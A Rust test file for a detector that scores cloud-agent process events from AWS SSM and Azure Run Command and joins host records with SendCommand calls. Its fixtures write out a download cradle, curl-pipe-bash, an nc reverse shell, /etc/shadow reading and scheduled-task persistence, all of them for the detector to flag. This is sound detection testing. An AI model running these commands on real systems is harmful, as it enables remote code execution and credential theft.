//! On-host evidence: one row per record shape and per agent, the real agent
//! background work of the corpus, bad input, and the control plane ⋈ host join through the
//! (sync) baseline store in both arrival orders.

use std::cell::RefCell;
use std::collections::HashMap;
use std::path::PathBuf;

use cadet_core::baseline::{BaselineStore, Put, Stored, Version};
use cadet_core::model::{Action, Agent, Provider};
use cadet_core::profile::Profile;
use cadet_core::{normalize, process, score, Policy, Processed, Severity, SignalId};
use serde_json::{json, Value};

const ORCH_WIN: &str = r"C:\ProgramData\Amazon\SSM\InstanceData\i-0a1b2c3d4e5f67890\document\orchestration\8d2f1c3e-5b6a-4c7d-9e0f-1a2b3c4d5e6f\awsrunPowerShellScript\0.awsrunPowerShellScript";
const ORCH_LINUX: &str = "/var/lib/amazon/ssm/i-0123456789abcdef0/document/orchestration/11112222-3333-4444-5555-666677778888/awsrunShellScript/0.awsrunShellScript";
const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// A Sysmon 1 record as NXLog/Logstash flatten it.
fn sysmon(image: &str, cmd: &str, parent: &str, parent_cmd: &str, cwd: &str) -> Value {
    json!({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "WEB-01.corp.example",
        "host": "collector.corp.example", "UtcTime": "2026-10-06 10:00:01.250", "RecordNumber": 7,
        "ProcessGuid": "{00000000-0000-0000-0000-000000000007}", "ProcessId": "4242",
        "Image": image, "CommandLine": cmd, "ParentImage": parent, "ParentCommandLine": parent_cmd,
        "CurrentDirectory": cwd, "User": "NT AUTHORITY\\SYSTEM"})
}

struct Row {
    name: &'static str,
    record: Value,
    /// None: no verdict (Ok(None)).
    agent: Option<Agent>,
    must: &'static [SignalId],
    must_not: &'static [SignalId],
    min: Severity,
    max: Severity,
}

fn rows() -> Vec<Row> {
    let ssm_worker = r"C:\Program Files\Amazon\SSM\ssm-document-worker.exe";
    let wrapper = format!(
        "{PS} -InputFormat None -Noninteractive -NoProfile -ExecutionPolicy unrestricted -f {ORCH_WIN}\\_script.ps1"
    );
    let rc_plugin = r"C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.18";
    let mrc_plugin = r"C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandHandlerWindows\2.0.8";
    let cse_plugin = r"C:\Packages\Plugins\Microsoft.Compute.CustomScriptExtension\1.10.15";
    vec![
        Row {
            name: "SSM wrapper (Sysmon, flat): not evidence by itself",
            record: sysmon(PS, &wrapper, ssm_worker, ssm_worker, ORCH_WIN),
            agent: Some(Agent::SsmRunCommand),
            must: &[SignalId::AgentWrapper],
            must_not: &[SignalId::ExecutionPolicyBypass, SignalId::SeedBypassShell, SignalId::AgentShell],
            min: Severity::Info,
            max: Severity::Info,
        },
        Row {
            name: "SSM: -enc child of the wrapper is high (the seed's rule)",
            record: sysmon(PS, "powershell.exe -enc SQBFAFgA", PS, &wrapper, ORCH_WIN),
            agent: Some(Agent::SsmRunCommand),
            must: &[SignalId::SeedEncodedShell, SignalId::EncodedCommand, SignalId::AgentShell],
            must_not: &[SignalId::AgentWrapper],
            min: Severity::High,
            max: Severity::Critical,
        },
        Row {
            name: "SSM: -bypass alone is at least medium (the seed's rule)",
            record: sysmon(r"C:\Windows\System32\cmd.exe", "cmd.exe /c powershell -bypass -file x.ps1", PS, &wrapper, ORCH_WIN),
            agent: Some(Agent::SsmRunCommand),
            must: &[SignalId::SeedBypassShell],
            must_not: &[SignalId::SeedEncodedShell],
            min: Severity::Medium,
            max: Severity::Critical,
        },
        Row {
            name: "seed: -hidden on wscript under the guest agent",
            record: sysmon(r"C:\Windows\System32\wscript.exe", "wscript.exe //B -hidden C:\\Temp\\a.vbs",
                r"C:\WindowsAzure\GuestAgent_2.7.41491.1102\WaAppAgent.exe", "WaAppAgent.exe", r"C:\Windows\system32"),
            agent: Some(Agent::AzureGuestAgent),
            must: &[SignalId::SeedBypassShell],
            must_not: &[SignalId::RoutineAgentWork],
            min: Severity::Medium,
            max: Severity::Critical,
        },
        Row {
            name: "Azure Run Command wrapper (script0.ps1)",
            record: sysmon(PS, &format!("powershell -ExecutionPolicy Unrestricted -File {rc_plugin}\\Downloads\\script0.ps1"),
                &format!("{rc_plugin}\\bin\\RunCommandExtension.exe"), "", &format!("{rc_plugin}\\Downloads")),
            agent: Some(Agent::AzureRunCommand),
            must: &[SignalId::AgentWrapper],
            must_not: &[SignalId::ExecutionPolicyBypass],
            min: Severity::Info,
            max: Severity::Info,
        },
        Row {
            name: "managed Run Command: download cradle",
            record: sysmon(PS, "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
                PS, &format!("powershell -File {mrc_plugin}\\Downloads\\rc1-0\\script.ps1"), &format!("{mrc_plugin}\\Downloads\\rc1-0")),
            agent: Some(Agent::AzureManagedRunCommand),
            must: &[SignalId::DownloadCradle, SignalId::AgentShell],
            must_not: &[],
            min: Severity::Medium,
            max: Severity::Critical,
        },
        Row {
            name: "Custom Script extension: persistence",
            record: sysmon(r"C:\Windows\System32\schtasks.exe", "schtasks /create /tn upd /tr c:\\u.exe /sc minute",
                r"C:\Windows\System32\cmd.exe", &format!("cmd /c {cse_plugin}\\Downloads\\0\\setup.cmd"), &format!("{cse_plugin}\\Downloads\\0")),
            agent: Some(Agent::AzureCustomScript),
            must: &[SignalId::Persistence],
            must_not: &[SignalId::AgentShell],
            min: Severity::Low,
            max: Severity::Critical,
        },
        Row {
            name: "guest agent housekeeping: ipconfig under WaAppAgent",
            record: sysmon(r"C:\Windows\System32\ipconfig.exe", "ipconfig /all",
                r"C:\WindowsAzure\GuestAgent_2.7\WaAppAgent.exe", "WaAppAgent.exe", r"C:\WindowsAzure\GuestAgent_2.7"),
            agent: Some(Agent::AzureGuestAgent),
            must: &[SignalId::RoutineAgentWork],
            must_not: &[SignalId::AgentShell],
            min: Severity::Info,
            max: Severity::Info,
        },
        Row {
            name: "not under an agent: no verdict, even with -enc",
            record: sysmon(PS, "powershell -enc SQBFAFgA", r"C:\Windows\explorer.exe", "explorer.exe", r"C:\Users\dev"),
            agent: None,
            must: &[],
            must_not: &[],
            min: Severity::Info,
            max: Severity::Info,
        },
        Row {
            name: "Security 4688 (flat): NewProcessName / ParentProcessName, hex pid",
            record: json!({"EventID": 4688, "Channel": "Security", "Hostname": "WEB-01", "@timestamp": "2026-10-06T10:00:02.000Z",
                "RecordNumber": 9, "NewProcessName": PS, "NewProcessId": "0x1ec0", "ProcessId": "0xc80",
                "ParentProcessName": r"C:\Program Files\Amazon\SSM\ssm-document-worker.exe",
                "CommandLine": "powershell -EncodedCommand SQBFAFgA", "SubjectUserName": "WEB-01$", "SubjectDomainName": "CORP",
                "TargetUserName": "-"}),
            agent: Some(Agent::SsmRunCommand),
            must: &[SignalId::SeedEncodedShell],
            must_not: &[],
            min: Severity::High,
            max: Severity::Critical,
        },
        Row {
            name: "Sentinel SecurityEvent row: subscription from _ResourceId",
            record: json!({"TimeGenerated": "2026-10-06T10:00:03.123Z", "Type": "SecurityEvent", "EventID": 4688,
                "Computer": "vm-app-1", "_ResourceId": "/subscriptions/00000000-1111-2222-3333-444444444444/resourcegroups/rg/providers/microsoft.compute/virtualmachines/vm-app-1",
                "NewProcessName": r"C:\Windows\System32\cmd.exe", "ParentProcessName": r"C:\WindowsAzure\GuestAgent_2.7\WaAppAgent.exe",
                "CommandLine": "cmd /c whoami", "Account": "WORKGROUP\\VM-APP-1$"}),
            agent: Some(Agent::AzureGuestAgent),
            must: &[SignalId::AgentShell],
            must_not: &[],
            min: Severity::Info,
            max: Severity::Low,
        },
        Row {
            name: "Auditbeat auditd EXECVE under the SSM orchestration folder",
            record: json!({"@timestamp": "2026-10-06T10:00:04.000Z", "event": {"module": "auditd", "action": "executed", "category": ["process"], "type": ["start"]},
                "host": {"name": "ip-10-0-0-5"}, "process": {"pid": 30412, "executable": "/usr/bin/cat", "args": ["cat", "/etc/shadow"],
                "working_directory": ORCH_LINUX, "parent": {"pid": 30411}}, "user": {"name": "root"}}),
            agent: Some(Agent::SsmRunCommand),
            must: &[SignalId::CredentialAccess],
            must_not: &[SignalId::AgentShell],
            min: Severity::Low,
            max: Severity::Critical,
        },
        Row {
            name: "Winlogbeat ECS Sysmon 1 under the Linux Run Command handler path",
            record: json!({"@timestamp": "2026-10-06T10:00:05.000Z", "event": {"code": "1", "category": ["process"], "type": ["start"]},
                "winlog": {"channel": "Linux-Sysmon/Operational", "event_id": 1, "record_id": 3},
                "host": {"name": "vm-lnx-1"}, "process": {"pid": 99, "executable": "/usr/bin/bash", "command_line": "bash -c 'curl -s http://203.0.113.4/x | bash'",
                "working_directory": "/var/lib/waagent/run-command/download/3", "parent": {"executable": "/usr/bin/sh", "command_line": "/bin/sh -c /var/lib/waagent/run-command/download/3/script.sh"}}}),
            agent: Some(Agent::AzureRunCommand),
            must: &[SignalId::DownloadCradle, SignalId::AgentShell],
            must_not: &[],
            min: Severity::Medium,
            max: Severity::Critical,
        },
        Row {
            name: "seed flat names: Session Manager shell",
            record: json!({"timestamp": "1791540000000", "host": "ip-10-0-0-9", "user": "ssm-user", "process_name": "/usr/bin/sh",
                "process_cmdline": "sh -c 'nc -e /bin/sh 203.0.113.7 4444'", "parent_process_name": "/usr/bin/ssm-session-worker"}),
            agent: Some(Agent::SsmSession),
            must: &[SignalId::ReverseShell, SignalId::AgentShell],
            must_not: &[],
            min: Severity::Medium,
            max: Severity::Critical,
        },
        Row {
            name: "another Windows event (Sysmon 3): no verdict",
            record: json!({"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "WEB-01", "Image": PS, "UtcTime": "2026-10-06 10:00:00.000"}),
            agent: None,
            must: &[],
            must_not: &[],
            min: Severity::Info,
            max: Severity::Info,
        },
        Row {
            name: "ECS non-process event (network): no verdict",
            record: json!({"@timestamp": "2026-10-06T10:00:00Z", "event": {"category": ["network"], "type": ["connection"]},
                "host": {"name": "h"}, "process": {"executable": "/usr/bin/amazon-ssm-agent"}}),
            agent: None,
            must: &[],
            must_not: &[],
            min: Severity::Info,
            max: Severity::Info,
        },
    ]
}

#[test]
fn table_per_shape_and_agent() {
    let policy = Policy::default();
    for row in rows() {
        let got =
            normalize(&row.record.to_string()).unwrap_or_else(|e| panic!("{}: {e}", row.name));
        let Some(event) = got else {
            assert!(row.agent.is_none(), "{}: expected a verdict", row.name);
            continue;
        };
        assert_eq!(event.action, Action::AgentProcess, "{}", row.name);
        let p = event
            .process
            .as_ref()
            .unwrap_or_else(|| panic!("{}", row.name));
        assert_eq!(p.agent, row.agent, "{}", row.name);
        assert_eq!(
            event.provider,
            row.agent.map(|a| a.provider()).unwrap_or(Provider::Aws),
            "{}",
            row.name
        );
        let v = score(&event, &policy);
        let ids: Vec<SignalId> = v.signals.iter().map(|s| s.id).collect();
        for m in row.must {
            assert!(ids.contains(m), "{}: {m:?} missing from {ids:?}", row.name);
        }
        for m in row.must_not {
            assert!(
                !ids.contains(m),
                "{}: {m:?} unexpected in {ids:?}",
                row.name
            );
        }
        assert!(
            v.severity >= row.min && v.severity <= row.max,
            "{}: {} ({}) not in {}..={}: {ids:?}",
            row.name,
            v.severity,
            v.risk_score,
            row.min,
            row.max
        );
    }
}

#[test]
fn ids_and_host_facts_come_out_of_the_record() {
    let wrapper = format!("{PS} -f {ORCH_WIN}\\_script.ps1");
    let rec = sysmon(PS, "powershell -enc AAAA", PS, &wrapper, ORCH_WIN);
    let e = normalize(&rec.to_string())
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("no event"));
    assert_eq!(
        e.command_id.as_deref(),
        Some("8d2f1c3e-5b6a-4c7d-9e0f-1a2b3c4d5e6f")
    );
    let host = e.host.as_ref().unwrap_or_else(|| panic!("host"));
    assert_eq!(
        host.name, "WEB-01.corp.example",
        "Hostname, not NXLog's collector `host`"
    );
    assert_eq!(host.id.as_deref(), Some("i-0a1b2c3d4e5f67890"));
    assert_eq!(e.principal.id, "NT AUTHORITY\\SYSTEM");
    assert_eq!(e.targets.ids, vec!["i-0a1b2c3d4e5f67890".to_string()]);
    let p = e.process.as_ref().unwrap_or_else(|| panic!("process"));
    assert_eq!(p.name, "powershell.exe");
    assert_eq!(p.pid, Some(4242));
    assert_eq!(p.parent_name.as_deref(), Some("powershell.exe"));
    assert_eq!(
        cadet_core::join::keys(&e),
        vec!["ssm-command:8d2f1c3e-5b6a-4c7d-9e0f-1a2b3c4d5e6f".to_string()]
    );
}

fn corpus() -> Option<PathBuf> {
    let dir =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/endpoint/otrf");
    if dir.is_dir() {
        Some(dir)
    } else {
        eprintln!("notice: {} is absent; corpus rows skipped", dir.display());
        None
    }
}

/// The real Azure guest agent background work (OTRF datasets): recognised as agent processes,
/// never above info.
#[test]
fn real_agent_background_work_stays_quiet() {
    let Some(dir) = corpus() else { return };
    let policy = Policy::default();
    let mut seen = 0;
    for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{e}")) {
        let path = entry.unwrap_or_else(|e| panic!("{e}")).path();
        if path.extension().is_none_or(|x| x != "ndjson") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{e}"));
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            let e = normalize(line)
                .unwrap_or_else(|err| panic!("{}: {err}", path.display()))
                .unwrap_or_else(|| {
                    panic!(
                        "{}: an agent child not recognised: {line:.200}",
                        path.display()
                    )
                });
            assert_eq!(
                e.process.as_ref().and_then(|p| p.agent),
                Some(Agent::AzureGuestAgent)
            );
            let v = score(&e, &policy);
            assert_eq!(
                v.severity,
                Severity::Info,
                "{}: {:?}",
                path.display(),
                v.signals
            );
            seen += 1;
        }
    }
    assert_eq!(seen, 18, "the corpus README lists 18 records");
}

#[test]
fn malformed_endpoint_records_say_where_and_why() {
    let cases = [
        (
            json!({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "h", "UtcTime": "2026-10-06 10:00:00"}),
            "Image",
        ),
        (
            json!({"EventID": 1, "Image": PS, "ParentImage": r"C:\Program Files\Amazon\SSM\ssm-document-worker.exe", "UtcTime": "2026-10-06 10:00:00"}),
            "Hostname",
        ),
        (
            json!({"EventID": 1, "Image": PS, "Hostname": "h", "ParentImage": r"C:\Program Files\Amazon\SSM\ssm-document-worker.exe", "UtcTime": "last tuesday"}),
            "UtcTime",
        ),
        (
            json!({"EventID": 1, "Image": PS, "Hostname": "h", "ParentImage": r"C:\Program Files\Amazon\SSM\ssm-document-worker.exe"}),
            "UtcTime",
        ),
        (
            json!({"EventID": 1, "Image": 42, "Hostname": "h"}),
            "invalid JSON",
        ),
        (
            json!({"@timestamp": "2026-10-06T10:00:00Z", "event": {"category": ["process"], "type": ["start"]}, "host": {"name": "h"}, "process": {"pid": 1}}),
            "process.executable",
        ),
    ];
    for (rec, needle) in cases {
        let err = normalize(&rec.to_string())
            .err()
            .map(|e| e.to_string())
            .unwrap_or_else(|| panic!("accepted {rec}"));
        assert!(err.contains(needle), "{err:?} should name {needle:?}");
    }
}

/// A sync store over a map, as `cadet detect --state FILE` uses one (redb) across runs.
#[derive(Default)]
struct MapStore {
    map: RefCell<HashMap<String, (u64, std::sync::Arc<Profile>)>>,
}

#[derive(Debug, thiserror::Error)]
#[error("never")]
struct Never;

impl BaselineStore for MapStore {
    type Error = Never;
    fn get(&self, key: &str) -> Result<Option<Stored>, Never> {
        Ok(self.map.borrow().get(key).map(|(v, p)| Stored {
            profile: p.clone(),
            version: Version(v.to_string()),
        }))
    }
    fn put(&self, key: &str, profile: Profile, expected: Option<&Version>) -> Result<Put, Never> {
        let mut map = self.map.borrow_mut();
        let current = map.get(key).map(|(v, _)| Version(v.to_string()));
        if current.as_ref() != expected {
            return Ok(Put::Conflict);
        }
        let next = current
            .map(|v| v.0.parse::<u64>().unwrap_or(0) + 1)
            .unwrap_or(1);
        map.insert(key.to_string(), (next, std::sync::Arc::new(profile)));
        Ok(Put::Written(Version(next.to_string())))
    }
}

fn send_command(time: &str) -> Value {
    json!({"eventVersion": "1.09", "eventSource": "ssm.amazonaws.com", "eventName": "SendCommand",
        "eventTime": time, "eventID": "cp-1", "awsRegion": "eu-west-1", "recipientAccountId": "111122223333",
        "sourceIPAddress": "203.0.113.9", "userAgent": "aws-cli/2.15.0",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/eve", "accountId": "111122223333",
            "accessKeyId": "AKIAEXAMPLE", "userName": "eve"},
        "requestParameters": {"documentName": "AWS-RunPowerShellScript", "instanceIds": ["i-0a1b2c3d4e5f67890"]},
        "responseElements": {"command": {"commandId": "8d2f1c3e-5b6a-4c7d-9e0f-1a2b3c4d5e6f", "targetCount": 1}}})
}

fn verdict(store: &MapStore, rec: &Value) -> cadet_core::Verdict {
    let e = normalize(&rec.to_string())
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("no event: {rec}"));
    match process(store, &e, &Policy::default()) {
        Ok(Processed::Verdict(v)) => *v,
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_join_works_in_both_orders_and_counts_each_signal_once() {
    let wrapper = format!("{PS} -f {ORCH_WIN}\\_script.ps1");
    let child = sysmon(
        PS,
        "powershell -nop -w hidden -enc SQBFAFgA",
        PS,
        &wrapper,
        ORCH_WIN,
    );
    let call = send_command("2026-10-06T10:00:00Z");
    let mut results = Vec::new();
    for host_first in [false, true] {
        let store = MapStore::default();
        let (a, b) = if host_first {
            (&child, &call)
        } else {
            (&call, &child)
        };
        let first = verdict(&store, a);
        assert!(first.event.related.is_empty() && first.rejoined.is_empty());
        let second = verdict(&store, b);
        assert_eq!(second.event.related.len(), 1, "host_first={host_first}");
        assert_eq!(second.rejoined.len(), 1);
        let re = &second.rejoined[0];
        assert_eq!(re.event.event_id, first.event.event_id);
        assert_eq!(re.revision, 1);
        for v in [&second, re] {
            let mut ids: Vec<SignalId> = v.signals.iter().map(|s| s.id).collect();
            let n = ids.len();
            ids.sort();
            ids.dedup();
            assert_eq!(ids.len(), n, "each signal once: {:?}", v.signals);
            assert!(ids.contains(&SignalId::JoinedActivity));
            assert!(ids.contains(&SignalId::SeedEncodedShell));
            assert!(ids.contains(&SignalId::LongTermKey));
        }
        let (cp, host) = if host_first {
            (&second, re)
        } else {
            (re, &second)
        };
        assert_eq!(cp.event.action, Action::RunCommand);
        assert!(cp
            .event
            .command_text
            .as_deref()
            .is_some_and(|t| t.contains("-enc")));
        assert_eq!(
            host.event.related[0].principal.as_deref(),
            Some("arn:aws:iam::111122223333:user/eve")
        );
        assert_eq!(
            host.event.related[0].source_ip.as_deref(),
            Some("203.0.113.9")
        );
        results.push((cp.risk_score, host.risk_score));
    }
    assert_eq!(
        results[0], results[1],
        "the same episode scores the same whichever half came first"
    );
}

#[test]
fn entries_per_key_are_bounded() {
    let store = MapStore::default();
    let _ = verdict(&store, &send_command("2026-10-06T10:00:00Z"));
    let wrapper = format!("{PS} -f {ORCH_WIN}\\_script.ps1");
    for i in 0..40 {
        let mut rec = sysmon(PS, "powershell -enc AAAA", PS, &wrapper, ORCH_WIN);
        rec["ProcessGuid"] = json!(format!("{{g-{i}}}"));
        let _ = verdict(&store, &rec);
    }
    let key = cadet_core::join::store_key("ssm-command:8d2f1c3e-5b6a-4c7d-9e0f-1a2b3c4d5e6f");
    let stored = store
        .get(&key)
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("no join record"));
    assert!(stored.profile.joins.len() <= cadet_core::join::MAX_ENTRIES);
}
